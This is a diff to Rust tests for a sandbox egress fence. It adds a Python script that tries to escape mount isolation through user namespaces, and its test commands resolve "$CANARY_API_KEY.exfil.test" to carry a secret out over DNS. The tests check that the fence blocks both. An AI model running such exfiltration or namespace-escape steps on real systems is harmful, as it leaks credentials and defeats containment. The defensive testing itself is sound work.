@@ -112,6 +112,31 @@ while True:
     c.close()
 "#;
 
+/// In a user namespace of CMD's own, which holds CAP_SYS_ADMIN over a mount namespace of
+/// its own: takes the hider off the nscd socket, or finds the socket under a
+/// non-recursive bind of /run (which would leave the hider behind). Prints what worked,
+/// then `userns-tried`.
+const UNHIDE: &str = r#"
+import ctypes, os, tempfile
+libc = ctypes.CDLL(None, use_errno=True)
+# CLONE_NEWUSER | CLONE_NEWNS, in this process: an execve would lose the capabilities.
+if libc.unshare(0x10000000 | 0x00020000) != 0:
+    print('unshare', os.strerror(ctypes.get_errno()))
+if libc.umount2(b'/run/nscd/socket', 2) == 0:
+    print('unmounted-hider')
+else:
+    print('umount', os.strerror(ctypes.get_errno()))
+d = tempfile.mkdtemp().encode()
+if libc.mount(b'/run', d, None, 4096, None) == 0:  # MS_BIND, not recursive
+    if os.path.exists(d + b'/nscd/socket') and not os.path.exists(d + b'/nscd/x'):
+        import stat
+        if stat.S_ISSOCK(os.stat(d + b'/nscd/socket').st_mode):
+            print('revealed-socket')
+else:
+    print('bind', os.strerror(ctypes.get_errno()))
+print('userns-tried')
+"#;
+
 /// The README says CMD's names resolve only through the guard, so DNS cannot carry data
 /// out. But glibc asks nscd's hosts cache (`/run/nscd/socket`) before resolv.conf's server,
 /// and nscd resolves from the host's namespace, past the fence: on a host running nscd
@@ -133,7 +158,10 @@ fn cmds_names_do_not_resolve_through_the_hosts_nscd() {
         &w,
         &policy,
         &["--user", "nobody", "--canary"],
-        "getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo \"getent=$?\"; exit 0",
+        &format!(
+            "getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo \"getent=$?\"; \
+             python3 -c \"$(cat <<'PY'\n{UNHIDE}\nPY\n)\"; exit 0"
+        ),
     );
     // The host's /run kept only for /run/netns (exec names its namespace there, and the
     // world's sandbox is named there), with a /run/nscd of the test's own.
@@ -167,7 +195,16 @@ set +e
     let out = cmd.output().expect("run exec beside a host's nscd");
     let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
     let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
-    assert!(stdout_of(&out).contains("getent="), "{shown}");
+    let text = stdout_of(&out);
+    assert!(
+        text.contains("getent=") && text.contains("userns-tried"),
+        "{shown}"
+    );
+    // A user namespace of CMD's own gets the mounts locked: the hider cannot be taken off,
+    // nor the socket found under a non-recursive bind of /run.
+    for got in ["unmounted-hider", "revealed-socket"] {
+        assert!(!text.contains(got), "{got}\n{shown}");
+    }
     let leaked: Vec<String> = w
         .dns_queries()
         .into_iter()
@@ -212,7 +249,9 @@ fn cmd_shutting_a_shared_stderr_socket_does_not_hide_a_tripped_canary() {
         "python3 -c 'import socket; socket.socket(fileno=2).shutdown(socket.SHUT_WR)'; \
          dig +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo asked; exit 0",
     )
-    .stderr(std::process::Stdio::from(std::os::fd::OwnedFd::from(theirs)))
+    .stderr(std::process::Stdio::from(std::os::fd::OwnedFd::from(
+        theirs,
+    )))
     .output()
     .expect("run egress-fence exec");
     let stderr = reader.join().expect("the stderr reader");
